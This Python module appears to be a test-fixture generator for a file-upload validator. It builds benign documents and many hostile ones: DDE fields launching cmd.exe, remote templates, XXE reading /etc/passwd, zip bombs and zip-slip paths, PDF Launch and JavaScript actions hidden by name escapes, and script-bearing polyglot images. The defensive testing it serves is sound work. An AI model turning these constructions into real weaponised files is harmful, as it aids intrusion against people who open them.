"""Hostile and benign files, made when asked for: each has a name, its bytes and the reason it must be refused for."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from docx import Document
from openpyxl import Workbook

MIB = 1 << 20


@dataclass(frozen=True)
class Sample:
    name: str
    make: Callable[[], bytes]
    code: str
    what: str


def word(text: str = "正文") -> bytes:
    document = Document()
    document.add_paragraph(text)
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def excel() -> bytes:
    book = Workbook()
    book.active.append(["位置", "面积", "=SUM(B2:B3)"])
    made = io.BytesIO()
    book.save(made)
    return made.getvalue()


def repacked(
    source: bytes, *, add: dict[str, bytes] | None = None, change: Callable[[str, bytes], bytes] | None = None
) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            data = old.read(name)
            new.writestr(name, change(name, data) if change else data)
        for name, data in (add or {}).items():
            new.writestr(name, data)
    return made.getvalue()


def packed(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return made.getvalue()


def with_relation(
    kind: str,
    target: str,
    source: Callable[[], bytes] = word,
    part: str = "word/_rels/document.xml.rels",
    mode: str = ' TargetMode="External"',
) -> bytes:
    line = (
        f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}"{mode}/></Relationships>'
    ).encode()
    return repacked(
        source(), change=lambda name, data: data.replace(b"</Relationships>", line) if name == part else data
    )


def in_document(xml: str) -> bytes:
    return repacked(
        word(),
        change=lambda name, data: (
            data.replace(b"<w:body>", b"<w:body>" + xml.encode()) if name == "word/document.xml" else data
        ),
    )


def before_document(head: bytes) -> bytes:
    def change(name: str, data: bytes) -> bytes:
        return head + data.partition(b"?>")[2] if name == "word/document.xml" else data

    return repacked(word(), change=change)


def png(width: int = 4, height: int = 4, tail: bytes = b"", ident: bytes | None = None) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(body, zlib.crc32(kind)))
        )

    rows = zlib.compress(b"".join(b"\0" + b"\x80" * 4 for _ in range(4)))
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", rows if ident is None else ident)
        + chunk(b"IEND", b"")
        + tail
    )


def jpeg(width: int = 64, height: int = 48, tail: bytes = b"", comment: bytes = b"") -> bytes:
    def segment(marker: int, body: bytes) -> bytes:
        return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body

    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00"
    made = b"\xff\xd8" + segment(0xE0, b"JFIF\0\x01\x02\0\0\x01\0\x01\0\0")
    if comment:
        made += segment(0xFE, comment)
    return (
        made
        + segment(0xC0, frame)
        + segment(0xDA, b"\x01\x01\0\0\x3f\0")
        + b"\x12\x34" * 40
        + b"\xff\xd9"
        + tail
    )


def pdf(
    body: bytes = b"", root: bytes = b"", trailer: bytes = b"", tail: bytes = b"", head: bytes = b"%PDF-1.7\n"
) -> bytes:
    return (
        head
        + b"1 0 obj <</Type /Catalog /Pages 2 0 R "
        + root
        + b">> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n"
        + body
        + b"trailer <</Root 1 0 R "
        + trailer
        + b">>\nstartxref\n9\n%%EOF\n"
        + tail
    )


def object_stream(
    objects: bytes, header: bytes = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
) -> bytes:
    data = zlib.compress(objects)
    return (
        b"5 0 obj <<"
        + header
        + b" /Length "
        + str(len(data)).encode()
        + b">>\nstream\n"
        + data
        + b"\nendstream endobj\n"
    )


def lying() -> bytes:
    """A part that says it holds ten bytes and holds a megabyte."""
    made = bytearray(packed({"a.pdf": b"0" * MIB}))
    for signature, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        struct.pack_into("<I", made, made.find(signature) + at, 10)
    return bytes(made)


def overlapping() -> bytes:
    """Two entries of the directory that point at the same part."""
    one = packed({"a.pdf": pdf(), "b.pdf": pdf()})
    made = bytearray(one)
    second = made.find(b"PK\x01\x02", made.find(b"PK\x01\x02") + 4)
    struct.pack_into("<I", made, second + 42, 0)
    return bytes(made)


def duplicates() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("a.pdf", pdf())
        archive.writestr("A.pdf", pdf())
    return made.getvalue()


def link() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        info = zipfile.ZipInfo("a.pdf")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return made.getvalue()


def encrypted_flag() -> bytes:
    made = bytearray(packed({"a.pdf": pdf()}))
    made[6] |= 1
    made[made.find(b"PK\x01\x02") + 8] |= 1
    return bytes(made)


OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
DDE = (
    '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
)
INCLUDE = '<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://198.51.100.1/x.png&quot; \\d"/></w:p>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;">]>'
FILE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def hostile() -> Iterator[Sample]:
    yield from _names()
    yield from _archives()
    yield from _office()
    yield from _pdfs()
    yield from _pictures()


def _names() -> Iterator[Sample]:
    yield Sample("run.exe", lambda: b"MZ" + b"\0" * 200, "kind", "a program")
    yield Sample("photo.jpg.exe", lambda: b"MZ" + b"\0" * 200, "kind", "a program behind two extensions")
    yield Sample("invoice\u202efdp.exe", lambda: b"MZ", "kind", "a program with its name turned round")
    yield Sample("page.html", lambda: b"<html></html>", "kind", "a web page")
    yield Sample("drawing.svg", lambda: b"<svg onload='x()'/>", "kind", "an active drawing")
    yield Sample("old.doc", lambda: OLE2, "kind", "an OLE2 document")
    yield Sample("macros.docm", word, "kind", "a macro document")
    yield Sample("empty.pdf", lambda: b"", "empty", "nothing")
    yield Sample("noextension", pdf, "kind", "no extension")
    yield Sample("program.pdf", lambda: b"MZ" + b"\0" * 300, "magic", "a program called pdf")
    yield Sample("page.pdf", lambda: b"<html><script>x()</script></html>", "magic", "a web page called pdf")
    yield Sample("page.png", lambda: b"<!doctype html><script>x()</script>", "magic", "a web page called png")
    yield Sample("ole.docx", lambda: OLE2, "magic", "OLE2 called docx")
    yield Sample("plan.dwg", lambda: b"AC10<script>", "damaged", "no drawing")
    yield Sample("big.png", lambda: png() + b"\0" * (31 * MIB), "size", "more bytes than allowed")


def _archives() -> Iterator[Sample]:
    yield Sample("bomb.zip", lambda: packed({"a.pdf": b"\0" * (60 * MIB)}), "bomb", "1 : 1000")
    yield Sample(
        "bomb.docx",
        lambda: repacked(word(), add={"word/x.xml": b" " * (60 * MIB)}),
        "bomb",
        "a bomb in a document",
    )
    yield Sample(
        "many.docx",
        lambda: repacked(word(), add={f"word/x{i}.xml": b"<a/>" for i in range(12_000)}),
        "parts",
        "12,000 parts",
    )
    yield Sample(
        "many.zip",
        lambda: packed({f"{i}.pdf": b"" for i in range(600)}, zipfile.ZIP_STORED),
        "parts",
        "600 files",
    )
    yield Sample("lying.zip", lying, "lying", "a lying size")
    yield Sample("overlap.zip", overlapping, "overlap", "parts inside parts")
    yield Sample("slip.zip", lambda: packed({"../../evil.pdf": pdf()}), "slip", "a path upwards")
    yield Sample("absolute.zip", lambda: packed({"/etc/evil.pdf": pdf()}), "slip", "an absolute path")
    yield Sample("windows.zip", lambda: packed({"..\\evil.pdf": pdf()}), "slip", "a Windows path upwards")
    yield Sample("drive.zip", lambda: packed({"c:evil.pdf": pdf()}), "slip", "a drive")
    yield Sample(
        "slip.docx",
        lambda: repacked(word(), add={"../../evil.xml": b"<a/>"}),
        "slip",
        "a document with a path upwards",
    )
    yield Sample("twice.zip", duplicates, "duplicate", "one name twice")
    yield Sample("link.zip", link, "link", "a symbolic link")
    yield Sample("locked.zip", encrypted_flag, "encrypted", "a password")
    yield Sample(
        "nested.zip",
        lambda: packed({"inner.zip": packed({"a.pdf": pdf()})}),
        "kind",
        "an archive in an archive",
    )
    yield Sample("program.zip", lambda: packed({"setup.exe": b"MZ"}), "kind", "a program in an archive")
    yield Sample(
        "script.zip",
        lambda: packed({"a.pdf": pdf(root=b"/OpenAction <</S /JavaScript /JS (x)>>")}),
        "action",
        "a script in an archive",
    )
    yield Sample("cut.zip", lambda: packed({"a.pdf": pdf()})[:-30], "damaged", "cut off")
    yield Sample("cut.docx", lambda: word()[:2000], "damaged", "a document cut off")
    yield Sample(
        "tail.zip",
        lambda: packed({"a.pdf": pdf()}) + b"<script>x()</script>",
        "polyglot",
        "a page behind an archive",
    )
    yield Sample(
        "front.zip",
        lambda: b"PK\x03\x04<html>" + b" " * 40 + packed({"a.pdf": pdf()}),
        "polyglot",
        "a page before an archive",
    )
    yield Sample(
        "pdf.zip",
        lambda: packed({"a.pdf": b"%PDF-1.7 " + pdf()}, zipfile.ZIP_STORED),
        "polyglot",
        "an archive that is also a PDF",
    )
    yield Sample(
        "bz2.zip", lambda: packed({"a.pdf": pdf()}, zipfile.ZIP_BZIP2), "method", "an unusual packing"
    )
    yield Sample("nothing.zip", lambda: packed({}), "magic", "an empty archive")


def _office() -> Iterator[Sample]:
    macro = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    plain = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    yield Sample(
        "vba.docx", lambda: repacked(word(), add={"word/vbaProject.bin": OLE2}), "macro", "vbaProject.bin"
    )
    yield Sample(
        "docm.docx",
        lambda: repacked(word(), change=lambda n, d: d.replace(plain, macro)),
        "macro",
        "a docm called docx",
    )
    yield Sample(
        "activex.docx",
        lambda: repacked(word(), add={"word/activeX/activeX1.xml": b"<a/>"}),
        "macro",
        "a control",
    )
    yield Sample(
        "macro4.xlsx",
        lambda: repacked(excel(), add={"xl/macrosheets/sheet1.xml": b"<a/>"}),
        "macro",
        "Excel 4 macros",
    )
    yield Sample(
        "ole.docx",
        lambda: repacked(word(), add={"word/embeddings/oleObject1.bin": OLE2}),
        "embedded",
        "an OLE object",
    )
    yield Sample(
        "exe.docx",
        lambda: repacked(word(), add={"word/media/image1.png": b"MZ\x90\0"}),
        "embedded",
        "a program as a picture",
    )
    yield Sample(
        "package.docx",
        lambda: repacked(word(), add={"word/embeddings/a.docx": word()}),
        "embedded",
        "a document in a document",
    )
    yield Sample(
        "template.docx",
        lambda: with_relation("attachedTemplate", "http://198.51.100.1/t.dotm"),
        "remote",
        "a remote template",
    )
    yield Sample(
        "unc.docx",
        lambda: with_relation("attachedTemplate", "file://198.51.100.1/t.dotm"),
        "remote",
        "a template on a share",
    )
    yield Sample(
        "image.docx",
        lambda: with_relation("image", "http://198.51.100.1/t.png"),
        "remote",
        "a remote picture",
    )
    yield Sample(
        "object.docx",
        lambda: with_relation("oleObject", "http://198.51.100.1/t"),
        "remote",
        "a remote object",
    )
    yield Sample(
        "frame.docx", lambda: with_relation("frame", "http://198.51.100.1/t"), "remote", "a remote frame"
    )
    yield Sample(
        "hidden.docx",
        lambda: with_relation("image", "http://198.51.100.1/t", mode=' TargetMode="&#69;xternal"'),
        "remote",
        "an escaped word",
    )
    yield Sample(
        "link.docx",
        lambda: with_relation("hyperlink", "file:///c:/windows/system32/cmd.exe"),
        "remote",
        "a link that runs",
    )
    yield Sample(
        "chunk.docx",
        lambda: with_relation("aFChunk", "evil.html", mode=""),
        "embedded",
        "a web page in a document",
    )
    yield Sample("dde.docx", lambda: in_document(DDE), "remote", "a DDE field")
    yield Sample("include.docx", lambda: in_document(INCLUDE), "remote", "a picture fetched by a field")
    yield Sample(
        "external.xlsx",
        lambda: repacked(excel(), add={"xl/externalLinks/externalLink1.xml": b"<a/>"}),
        "remote",
        "another workbook",
    )
    yield Sample(
        "query.xlsx",
        lambda: repacked(excel(), add={"xl/connections.xml": b"<a/>"}),
        "remote",
        "a data connection",
    )
    yield Sample("laughs.docx", lambda: before_document(LAUGHS), "entity", "billion laughs")
    yield Sample("file.docx", lambda: before_document(FILE), "entity", "a file through an entity")
    yield Sample(
        "utf16.docx",
        lambda: before_document(b'<?xml version="1.0" encoding="UTF-16"?>'),
        "encoding",
        "UTF-16",
    )
    yield Sample(
        "utf7.docx", lambda: before_document(b'<?xml version="1.0" encoding="UTF-7"?>'), "encoding", "UTF-7"
    )
    yield Sample(
        "include2.docx",
        lambda: in_document('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="x"/>'),
        "remote",
        "XInclude",
    )
    yield Sample("nothing.docx", lambda: packed({"word/document.xml": b"<a/>"}), "structure", "no document")
    yield Sample("book.docx", excel, "structure", "a workbook called docx")
    yield Sample("plain.ofd", lambda: packed({"a.xml": b"<a/>"}), "structure", "no OFD")
    yield Sample(
        "entity.ofd",
        lambda: packed({"OFD.xml": b"<!DOCTYPE a><ofd:OFD/>"}),
        "entity",
        "an OFD with a document type",
    )


def _pdfs() -> Iterator[Sample]:
    run = b"/OpenAction <</S /Launch /F (cmd.exe)>>"
    yield Sample(
        "script.pdf",
        lambda: pdf(root=b"/OpenAction <</S /JavaScript /JS (app.alert\\(1\\))>>"),
        "action",
        "JavaScript",
    )
    yield Sample(
        "escaped.pdf",
        lambda: pdf(root=b"/OpenAction <</S /J#61vaScr#69pt /J#53 (x)>>"),
        "action",
        "JavaScript with escapes",
    )
    yield Sample("launch.pdf", lambda: pdf(root=run), "action", "Launch")
    yield Sample(
        "embedded.pdf", lambda: pdf(root=b"/Names <</EmbeddedFiles 9 0 R>>"), "action", "an embedded file"
    )
    yield Sample(
        "media.pdf", lambda: pdf(body=b"4 0 obj <</Subtype /RichMedia>> endobj\n"), "action", "rich media"
    )
    yield Sample(
        "goto.pdf", lambda: pdf(root=b"/OpenAction <</S /GoToE>>"), "action", "a jump into an embedded file"
    )
    yield Sample(
        "submit.pdf",
        lambda: pdf(body=b"4 0 obj <</S /SubmitForm /F (http://198.51.100.1)>> endobj\n"),
        "action",
        "a form that sends",
    )
    yield Sample("xfa.pdf", lambda: pdf(root=b"/AcroForm <</XFA 5 0 R>>"), "action", "XFA")
    yield Sample(
        "packed.pdf",
        lambda: pdf(body=object_stream(b"6 0 <</S /JavaScript /JS (x)>>")),
        "action",
        "JavaScript in an object stream",
    )
    yield Sample(
        "packed2.pdf",
        lambda: pdf(
            body=object_stream(
                b"6 0 <</S /L#61unch>>", b"/Type /Obj#53tm /N 1 /First 4 /Filter [/FlateDecode]"
            )
        ),
        "structure",
        "Launch in a disguised object stream",
    )
    yield Sample(
        "comment.pdf",
        lambda: pdf(body=b"%stream\n" + object_stream(b"6 0 <</S /JavaScript>>")),
        "action",
        "an object stream behind a false one",
    )
    yield Sample(
        "odd.pdf",
        lambda: pdf(body=object_stream(b"6 0 x", b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]")),
        "structure",
        "objects packed twice",
    )
    yield Sample("objbomb.pdf", lambda: pdf(body=object_stream(b" " * (40 * MIB))), "bomb", "an object bomb")
    yield Sample("locked.pdf", lambda: pdf(trailer=b"/Encrypt 9 0 R"), "encrypted", "a password")
    yield Sample("zip.pdf", lambda: pdf(tail=packed({"a.txt": b"x"})), "polyglot", "an archive behind a PDF")
    yield Sample("page.pdf", lambda: pdf(tail=b"<script>x()</script>"), "polyglot", "a page behind a PDF")
    yield Sample("page2.pdf", lambda: pdf(body=b"<script>alert(1)</script>\n"), "polyglot", "a page in a PDF")
    yield Sample("cut.pdf", lambda: pdf()[:60], "damaged", "a PDF cut off")
    yield Sample(
        "slow.pdf", lambda: pdf(body=b"/" * (8 * MIB)), "none", "eight million slashes: slow readers choke"
    )
    yield Sample("slow3.pdf", lambda: pdf(body=b"#41" * (4 * MIB)), "structure", "four million escapes")
    yield Sample(
        "slow4.pdf", lambda: pdf(body=b"stream\nendstream" * MIB), "structure", "a million empty streams"
    )
    yield Sample(
        "slow5.pdf", lambda: pdf(body=b"/JavaScriptX" * MIB), "none", "a million names that only begin alike"
    )
    yield Sample(
        "slow2.pdf", lambda: pdf(body=b"stream\n" * MIB), "none", "a million beginnings without an end"
    )


def _pictures() -> Iterator[Sample]:
    yield Sample("flood.png", lambda: png(60_000, 60_000), "pixels", "a pixel flood")
    yield Sample("wide.png", lambda: png(40_000, 1), "pixels", "one very wide row")
    yield Sample("flood.jpg", lambda: jpeg(65_000, 65_000), "pixels", "a pixel flood as JPEG")
    yield Sample("zero.png", lambda: png(0, 4), "damaged", "no width")
    yield Sample("zero.jpg", lambda: jpeg(0, 0), "damaged", "no size")
    yield Sample("tail.png", lambda: png(tail=b"<?php x(); ?>"), "polyglot", "a script behind a picture")
    yield Sample(
        "zip.png", lambda: png(tail=packed({"a.txt": b"x"})), "polyglot", "an archive behind a picture"
    )
    yield Sample(
        "zip.jpg", lambda: jpeg(tail=packed({"a.txt": b"x"})), "polyglot", "an archive behind a photograph"
    )
    yield Sample(
        "page.jpg", lambda: jpeg(comment=b"<script>x()</script>"), "polyglot", "a page in a photograph"
    )
    yield Sample("cut.png", lambda: png()[:-8], "damaged", "cut off")
    yield Sample("wrong.png", lambda: png().replace(b"IDAT", b"IDAX"), "damaged", "a wrong checksum")
    yield Sample("cut.jpg", lambda: jpeg()[:60], "damaged", "a photograph cut off")


def with_chart() -> bytes:
    """A document whose chart carries its table, as Word writes it."""
    return repacked(word(), add={"word/embeddings/Microsoft_Excel_Sheet.xlsx": excel()})


def benign() -> Iterator[Sample]:
    yield Sample("申请书.docx", word, "", "a document")
    yield Sample(
        "链接.docx",
        lambda: with_relation("hyperlink", "https://example.org/link"),
        "",
        "a document with a link",
    )
    yield Sample("图表.docx", with_chart, "", "a document with a chart")
    yield Sample("清单.xlsx", excel, "", "a workbook")
    yield Sample("照片.jpg", jpeg, "", "a photograph")
    yield Sample(
        "照片.JPEG", lambda: jpeg(tail=b"SEFT" + b"\0" * 40), "", "a phone's photograph with data behind it"
    )
    yield Sample("大照片.jpg", lambda: jpeg(16_320, 12_240), "", "200 megapixels")
    yield Sample("扫描.png", png, "", "a scan")
    yield Sample("图纸.dwg", lambda: b"AC1032\0" + b"\0" * 200, "", "a drawing")
    yield Sample(
        "文书.ofd",
        lambda: packed(
            {"OFD.xml": b'<?xml version="1.0" encoding="UTF-8"?><ofd:OFD/>', "Doc_0/Document.xml": b"<a/>"}
        ),
        "",
        "an OFD",
    )
    yield Sample("证明.pdf", pdf, "", "a PDF")
    yield Sample(
        "目录.pdf",
        lambda: pdf(root=b"/OpenAction [1 0 R /XYZ null null 0]"),
        "",
        "a PDF that opens at a page",
    )
    yield Sample(
        "对象流.pdf",
        lambda: pdf(body=object_stream(b"6 0 <</Type /Font /Filter 3>>")),
        "",
        "a PDF with an object stream",
    )
    yield Sample(
        "材料.zip", lambda: packed({"一/照片.jpg": jpeg(), "二/清单.xlsx": excel()}), "", "an archive"
    )
    yield Sample("国标码.zip", gbk_names, "", "an archive with names in GBK")


def gbk_names() -> bytes:
    """As Windows in China writes it: GBK names without saying so."""
    made = bytearray(packed({"\u00e4\u00e5.pdf": pdf()}))
    name = "\u00e4\u00e5.pdf".encode()
    for signature, flag_at, name_at in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
        at = made.find(signature)
        made[at + flag_at + 1] &= ~0x08 & 0xFF
        made[at + name_at : at + name_at + len(name)] = "材料".encode("gbk") + b".pdf"
    return bytes(made)
